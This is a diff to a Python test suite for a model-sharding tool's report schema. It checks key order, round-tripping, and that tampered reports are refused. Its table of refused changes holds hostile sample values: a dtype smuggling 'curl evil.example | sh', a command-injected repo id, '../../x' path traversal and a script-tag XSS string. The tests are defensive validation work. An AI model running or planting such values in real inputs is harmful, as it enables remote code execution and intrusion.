@@ -12,13 +12,14 @@ from hypothesis import strategies as st
 from sharding.core.errors import SourceError
 from sharding.core.limits import CURVE_MOMENTS
 from sharding.core.options import Options
+from sharding.core.origin import Place
 from sharding.core.text import json_file
-from sharding.core.values import Component, Content, FileEntry, Finding, Library, Place, ShardRecord, Stage, TiedTensor
-from sharding.core.verification import Mismatch, Verification
+from sharding.core.values import Component, Content, FileEntry, Finding, Library, ShardRecord, Stage, TiedTensor
+from sharding.core.verification import Evidence, Mismatch, Read, Verification
 from sharding.loading.costs import Cause, ClassicCost, Comparison, Kind, LoadCost, Moment, Prediction, Verdict
 from sharding.report.report import make_report
 from sharding.report.schema import Report, Resources, parse_report, to_json
-from tests.report.results import made, of
+from tests.report.results import LIMIT, MERGE, made, of
 from tests.tensors import plan_of, stored_tensor
 
 
@@ -32,16 +33,17 @@ def document() -> dict[str, Any]:
 KEYS = {
     "": "schema tool finished engine source destination plan plan_id shards files verification overflowed resources "
     "fleet comparison",
-    "source": "kind repo_id revision architecture library variant other_variants in_pieces base total_bytes "
+    "source": "store repo_id revision architecture library variant other_variants in_pieces beside total_bytes "
     "total_parameters tensors dtypes components weight_files",
     "source components 0": "folder base metadata",
     "source weight_files 0": "file bytes tensors",
-    "destination": "kind repo_id revision",
-    "plan": "max_shard_bytes strategy order dtype dequantized total_bytes total_parameters shards weight_map stages "
-    "pipeline rank findings plan_id",
+    "destination": "store repo_id revision",
+    "plan": "max_shard_bytes strategy order total_bytes total_parameters shards weight_map stages pipeline rank "
+    "findings plan_id",
     "plan shards 0": "file bytes tensors",
     "shards 0": "file bytes sha256",
-    "verification": "identical tensors bytes seconds method mismatches dtype dequantized",
+    "verification": "identical outcome method tensors bytes seconds evidence mismatches",
+    "verification evidence": "read structure rebuilt reread weights loaded kept beside measured original",
     "resources": "peak_anon_bytes seconds bytes_read read_requests bytes_uploaded bytes_deduplicated disk_bytes_written",
 }
 
@@ -54,6 +56,13 @@ def within(document: Any, path: str) -> Any:
 def test_a_report_has_these_keys_in_this_order(document: dict[str, Any]) -> None:
     for path, keys in KEYS.items():
         assert list(within(document, path)) == keys.split(), path
+    merged = to_json(made(made=(MERGE,)).report)
+    cast = to_json(made(Options(LIMIT, dtype="bf16")).report)["plan"]
+    assert cast["asked"] == {"dtype": "bf16"} and list(cast)[2:6] == ["order", "asked", "made", "total_bytes"]
+    change = "kind done called how then changed of by is_exact keeps_size relation evidence caveat"
+    assert [*cast["made"][0]] == [*merged["plan"]["made"][0]] == change.split()
+    lora = {"store": "hub", "repo_id": "bob/lora", "revision": "b" * 40, "inside": "sub/", "role": "adapter"}
+    assert [*merged["source"]["beside"], merged["plan"]["made"][0]["by"]] == [lora] * 2
 
 
 TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
@@ -85,6 +94,7 @@ LOADS = st.builds(
     stored_dtypes=st.none() | st.dictionaries(TEXT, COUNTS),
     tokens=st.lists(st.integers()).map(tuple),
 )
+EVIDENCE = st.builds(Evidence, st.sampled_from(get_args(Read)), st.booleans(), *[COUNTS] * 3)
 SIDES = st.lists(LOADS, max_size=3).map(tuple)
 PREDICTIONS = st.builds(Prediction, COUNTS, COUNTS)
 COMPARISONS = st.builds(
@@ -131,7 +141,7 @@ def reports(draw: st.DrawFn) -> Report:
             shard.file: ShardRecord(shard.file, shard.bytes + draw(st.integers(1, 2**61)), "0a" * 32, {})
             for shard in plan.shards
         },
-        Verification(*counts, draw(SECONDS), draw(TEXT), mismatches),
+        Verification(*counts, draw(SECONDS), draw(EVIDENCE), mismatches),
         draw(st.builds(Resources, COUNTS, SECONDS, *[COUNTS] * 5)),
         destination=draw(FOLDERS | HUBS),
         engine=draw(st.sampled_from(["stream", "classic"])),
@@ -152,6 +162,11 @@ def test_what_is_written_is_read_back_as_it_was(report: Report) -> None:
     }
 
 
+def input_at(store: str, repo_id: str, revision: str = "1", role: str = "base") -> list[dict[str, str]]:
+    """One more input, as a report names it."""
+    return [{"store": store, "repo_id": repo_id, "revision": revision, "role": role}]
+
+
 CHANGES: dict[str, tuple[str, Any]] = {
     "another schema": ("schema", 2),
     "a text for the schema": ("schema", "1"),
@@ -168,21 +183,29 @@ CHANGES: dict[str, tuple[str, Any]] = {
     "markup for a file": ("shards 0 file", "<script>alert(1)</script>"),
     "another digest": ("shards 0 sha256", "0" * 63 + "G"),
     "no shards": ("plan shards", []),
-    "a repo that is none": ("source", {"kind": "hub", "repo_id": "../../x"}),
-    "a text that is very long": ("verification method", "x" * 3000),
+    "a repo that is none": ("source", {"store": "hub", "repo_id": "../../x"}),
+    "a text that is very long": ("tool", "x" * 3000),
+    "something else that was read": ("verification evidence read", "everything"),
     "no date": ("finished", "yesterday"),
-    "a command for a dtype": ("plan dtype", "fp16; curl evil.example | sh #"),
-    "a branch for a commit": ("source", {"kind": "hub", "repo_id": "me/model", "revision": "main"}),
+    "a command for a dtype": ("plan asked", {"dtype": "fp16; curl evil.example | sh #"}),
+    "an option that there is not": ("plan asked", {"evil": True}),
+    "an option that decides no number": ("plan asked", {"allow_overflow": True}),
+    "an option that the plan has already": ("plan asked", {"strategy": "blocks"}),
+    "an input among the options": ("plan asked", {"adapter": "evil/lora"}),
+    "another kind of value": ("plan asked", {"variant": True}),
+    "a branch for a commit": ("source", {"store": "hub", "repo_id": "me/model", "revision": "main"}),
     "a path for a weight file of the source": ("source weight_files 0 file", "../../x"),
-    "a base that is none": ("source base", {"kind": "hub", "repo_id": "../../x", "revision": "a" * 40}),
-    "a command for a base": ("source base", {"kind": "hub", "repo_id": "a/b; evil", "revision": "a" * 40}),
-    "a branch for the commit of a base": ("source base", {"kind": "hub", "repo_id": "a/b", "revision": "main"}),
-    "a folder without a name": ("source", {"kind": "folder", "repo_id": ""}),
-    "the folder .": ("source", {"kind": "folder", "repo_id": "."}),
-    "a folder with a repo's name": ("source", {"kind": "folder", "repo_id": "me/model"}),
-    "a base without a name": ("source base", {"kind": "folder", "repo_id": "", "revision": "1"}),
-    "a base in a folder with a repo's name": ("source base", {"kind": "folder", "repo_id": "a/b", "revision": "1"}),
-    "another kind of base": ("source base", {"kind": "s3", "repo_id": "a/b", "revision": "a" * 40}),
+    "a base that is none": ("source beside", input_at("hub", "../../x", "a" * 40)),
+    "a command for a base": ("source beside", input_at("hub", "a/b; evil", "a" * 40)),
+    "a branch for the commit of a base": ("source beside", input_at("hub", "a/b", "main")),
+    "a folder without a name": ("source", {"store": "folder", "repo_id": ""}),
+    "the folder .": ("source", {"store": "folder", "repo_id": "."}),
+    "a folder with a repo's name": ("source", {"store": "folder", "repo_id": "me/model"}),
+    "a base without a name": ("source beside", input_at("folder", "")),
+    "a base in a folder with a repo's name": ("source beside", input_at("folder", "a/b")),
+    "another store of a base": ("source beside", input_at("s3", "a/b", "a" * 40)),
+    "two bases": ("source beside", 2 * input_at("folder", "a")),
+    "another role": ("source beside", input_at("folder", "a", "1", "evil")),
     "fewer bytes than planned": ("plan total_bytes", 7),
     "a source with more tensors": ("source tensors", 99),
     "a source with more bytes": ("source total_bytes", 10**9),
@@ -200,7 +223,7 @@ CHANGES: dict[str, tuple[str, Any]] = {
 def test_what_this_tool_does_not_write_is_refused(document: dict[str, Any], change: str) -> None:
     path, value = CHANGES[change]
     place, last = within(document, path.rpartition(" ")[0]), path.rpartition(" ")[2]
-    place[last] = {**(place[last] or {}), **value} if isinstance(value, dict) else value
+    place[last] = {**(place.get(last) or {}), **value} if isinstance(value, dict) else value
     with pytest.raises(SourceError, match="is not a report of this tool"):
         parse_report(json.dumps(document))
 
@@ -220,6 +243,6 @@ def test_a_tensor_that_is_planned_twice_is_refused(document: dict[str, Any]) -> 
 
 
 def test_a_base_that_the_page_would_show_is_read() -> None:
-    for base in (Place("hub", "me/base", "a" * 40), Place("folder", "my base; ..x", "1")):
-        report = of(made().report, base=base)
+    for name, revision, store in (("me/base", "a" * 40, "hub"), ("my base; ..x", "1", "folder")):
+        report = of(made().report, beside=(Place(store, name, revision, role="base"),))
         assert parse_report(json.dumps(to_json(report))) == report
